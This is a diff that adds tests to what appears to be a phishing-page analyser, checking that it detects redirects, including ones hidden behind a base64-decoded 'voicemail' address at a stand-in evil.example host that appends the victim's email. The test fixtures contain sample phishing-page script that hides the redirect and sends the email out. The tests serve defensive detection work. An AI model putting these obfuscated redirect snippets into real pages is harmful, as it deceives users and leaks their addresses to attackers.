@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import base64
+
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -137,6 +140,34 @@ def test_redirects_by_meta_refresh_and_by_script():
         '<meta http-equiv="refresh" content="0; url=https://evil.example/x">').redirect == "https://evil.example/x"
     assert documents.html_features(
         '<script>window.location.href = "https://evil.example/y";</script>').redirect == "https://evil.example/y"
+
+
+ENCODED_TARGET = base64.b64encode(b"https://voicemail.evil.example/vm/?id=").decode()
+
+
+@pytest.mark.parametrize("navigation", [
+    "window.location.href = t + btoa(e);",
+    "location.href=t;",
+    "window.location = t;",
+    "document.location.replace(t + btoa(e));",
+    "top.location.assign(t);",
+])
+def test_redirect_to_an_address_decoded_at_run_time(navigation):
+    page = (f'<p>Loading your voice message...</p><script>var e = "alice@example.com"; '
+            f'var t = atob("{ENCODED_TARGET}"); setTimeout(function() {{ {navigation} }}, 300);</script>')
+    assert documents.html_features(page).redirect == "https://voicemail.evil.example/vm/?id="
+
+
+def test_redirect_straight_to_a_decoded_address():
+    page = f'<script>location.replace(atob("{ENCODED_TARGET}"));</script>'
+    assert documents.html_features(page).redirect == "https://voicemail.evil.example/vm/?id="
+
+
+def test_a_decoded_address_the_page_does_not_navigate_to_is_no_redirect():
+    for page in (f'<script>var t = atob("{ENCODED_TARGET}"); console.log(t);</script>',
+                 f'<div data-location="Paris"></div><script>var t = atob("{ENCODED_TARGET}");</script>',
+                 f'<script>var t = atob("{ENCODED_TARGET}"); if (location == t) {{ show(); }}</script>'):
+        assert documents.html_features(page).redirect == "", page
 
 
 def test_hostile_markup_is_inspected_in_bounded_time_without_error():
